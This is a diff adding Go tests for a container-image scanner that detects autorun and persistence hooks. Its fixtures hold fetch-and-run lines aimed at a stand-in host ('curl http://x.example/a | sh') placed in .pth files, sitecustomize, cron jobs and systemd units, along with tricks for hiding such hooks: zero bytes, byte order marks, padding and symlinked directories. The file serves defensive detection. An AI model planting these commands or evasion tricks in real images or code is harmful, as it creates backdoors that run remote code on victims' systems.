@@ -1,0 +1,110 @@
+package autorun
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	v1 "github.com/google/go-containerregistry/pkg/v1"
+
+	"github.com/backtrail/backtrail/inspect"
+)
+
+// Ways to keep a hook from being seen that interpreters and the file system allow. Each is the row that it would be
+// without the disguise.
+func TestDisguisedHooks(t *testing.T) {
+	evil := "import os; os.system('curl http://x.example/a | sh')\n"
+	library := program("so")
+	for name, test := range map[string]struct {
+		members []member
+		want    string
+	}{
+		"a byte order mark":               {[]member{file(site+"/a.pth", "\ufeff"+evil)}, "high python-pth /" + site + "/a.pth"},
+		"a carriage return":               {[]member{file(site+"/a.pth", "# x\r"+evil)}, "high python-pth /" + site + "/a.pth"},
+		"a line that is long":             {[]member{file(site+"/a.pth", "import os;"+strings.Repeat(" ", 20<<10)+evil)}, "high python-pth /" + site + "/a.pth"},
+		"a package":                       {[]member{file(site+"/sitecustomize/__init__.py", evil)}, "high python-site /" + site + "/sitecustomize/__init__.py"},
+		"a library":                       {[]member{file(site+"/sitecustomize.cpython-313-x86_64-linux-gnu.so", library)}, "low python-site /" + site + "/sitecustomize.cpython-313-x86_64-linux-gnu.so"},
+		"compiled":                        {[]member{file(site+"/usercustomize.pyc", "\xcb\r\r\n")}, "low python-site /" + site + "/usercustomize.pyc"},
+		"a directory that a .pth adds":    {[]member{file(site+"/a.pth", "/opt/x\n"), file("opt/x/sitecustomize.py", evil)}, "high python-site /opt/x/sitecustomize.py"},
+		"a directory beside the .pth":     {[]member{file(site+"/a.pth", "x\n"), file(site+"/x/usercustomize.py", evil)}, "high python-site /" + site + "/x/usercustomize.py"},
+		"a zero byte":                     {[]member{file("etc/cron.daily/x", "#!/bin/sh\n# \x00\n"+fetch)}, "high cron /etc/cron.daily/x"},
+		"zero bytes in the words":         {[]member{file("etc/cron.daily/x", "#!/bin/sh\ncu\x00rl -s http://x.example/a | s\x00h\n")}, "high cron /etc/cron.daily/x"},
+		"a script behind much text":       {[]member{file("etc/cron.daily/x", "#!/bin/sh\n"+strings.Repeat("# a comment\n", 8<<10)+"/opt/x.sh\n"), exe("opt/x.sh", "#!/bin/sh\n"+fetch)}, "high cron /etc/cron.daily/x"},
+		"a directory of jobs that is one": {[]member{file("opt/c/x", fetch), symlink("etc/cron.hourly", "/opt/c")}, "high cron /etc/cron.hourly/x"},
+		"a directory of keys that is one": {[]member{file("opt/k/authorized_keys", "ssh-ed25519 A me@host"), symlink("root/.ssh", "/opt/k")}, "medium authorized-keys /root/.ssh/authorized_keys"},
+		"what adds to a unit":             {[]member{file("lib/systemd/system/y.service.d/o.conf", "[Service]\nExecStartPre=/bin/sh -c 'curl http://x.example/a | sh'\n")}, "high unit /lib/systemd/system/y.service.d/o.conf"},
+		"a unit that a target wants":      {[]member{file("opt/y", "[Service]\nExecStart=/bin/sh -c 'curl http://x.example/a | sh'\n"), symlink("etc/systemd/system/multi-user.target.wants/y.service", "/opt/y")}, "high unit /etc/systemd/system/multi-user.target.wants/y.service"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			if got := listed(inspected(t, image{members: test.members}, nil)); !slices.Equal(got, []string{test.want}) {
+				t.Errorf("got  %q\nwant %q", got, test.want)
+			}
+		})
+	}
+}
+
+// A link to a directory whose files are hooks by their own paths adds no second row.
+func TestALinkToADirectoryOfHooksIsNoSecondRow(t *testing.T) {
+	c := inspected(t, image{members: []member{file("etc/cron.daily/x", fetch), symlink("etc/cron.weekly", "/etc/cron.daily")}}, nil)
+	if got := listed(c); !slices.Equal(got, []string{"high cron /etc/cron.daily/x"}) {
+		t.Errorf("got %q", got)
+	}
+}
+
+// Where an image has more text before a hook than is read, the check is not one that passed.
+func TestMoreTextThanIsReadIsSaid(t *testing.T) {
+	text := `{"name": "a"` + strings.Repeat(" ", MaxText-20) + "}"
+	var members []member
+	for i := range MaxTextAll/MaxText + 2 {
+		members = append(members, file(fmt.Sprintf("app/node_modules/m%d/package.json", i), text))
+	}
+	c := inspected(t, image{members: append(members, file("etc/cron.daily/x", "#!/bin/sh\n"+fetch))}, nil)
+	if s, ok := c.Check(CheckAutoruns, c.Images[0].Container); !ok || s.Status != inspect.CheckBlocked || !strings.Contains(s.Reason, "not read") {
+		t.Errorf("check %+v", s)
+	}
+}
+
+// A hook that is longer than what is read of it does not pass for one that was looked through.
+func TestALongHookIsSaidToBeCut(t *testing.T) {
+	c := inspected(t, image{members: []member{file("etc/cron.daily/x", "#!/bin/sh\n"+strings.Repeat("# a comment\n", MaxText/8)+fetch)}}, nil)
+	if r := rowOf(t, c, KindCron); !strings.Contains(r.Detail, "only its first") {
+		t.Errorf("detail %q", r.Detail)
+	}
+}
+
+// A variable may name as many libraries as fit into a config, and come as often: the directories of the loader are read
+// once, and the names beyond the bound are not passed over in silence.
+func TestManyPreloadedLibrariesAreBounded(t *testing.T) {
+	config := v1.Config{Env: []string{"LD_PRELOAD=" + strings.Repeat("a:", 200_000), "LD_AUDIT=" + strings.Repeat("b ", 200_000)}}
+	began := time.Now()
+	c := inspected(t, image{config: config}, nil)
+	if s, ok := c.Check(CheckAutoruns, c.Images[0].Container); !ok || s.Status != inspect.CheckBlocked {
+		t.Errorf("check %+v", s)
+	}
+	if took := time.Since(began); took > 20*time.Second {
+		t.Errorf("took %s", took)
+	}
+}
+
+// A package's list of files may name a file without a digest of it: that proves nothing about its content, so it is
+// looked through, and is not verified.
+func TestANameInAListWithoutADigestProvesNothing(t *testing.T) {
+	members := dpkgOf(map[string][]member{"tools": {file("usr/share/doc/tools", "x")}}, "tools")
+	for i, m := range members {
+		if strings.HasSuffix(m.Name, "tools.list") {
+			members[i].Content = m.Content + "/opt/job.sh\n/usr/lib/systemd/system/x.service\n"
+		}
+	}
+	members = append(members, file("usr/share/doc/tools", "x"), exe("opt/job.sh", "#!/bin/sh\n"+fetch),
+		file("usr/lib/systemd/system/x.service", "[Service]\nExecStart=/opt/job.sh\n"))
+	r := rowOf(t, inspectedAt(t, imageOf(t, v1.Config{}, step("ADD rootfs.tar /", members...)), nil), KindUnit)
+	if r.Severity != inspect.High || r.Status == inspect.RowVerified {
+		t.Errorf("%s %s: %s", r.Severity, r.Status, r.Detail)
+	}
+	members[len(members)-1].Content = "[Service]\nExecStart=/bin/true\n"
+	if r = rowOf(t, inspectedAt(t, imageOf(t, v1.Config{}, step("ADD rootfs.tar /", members...)), nil), KindUnit); r.Status == inspect.RowVerified {
+		t.Errorf("verified: %s", r.Detail)
+	}
+}
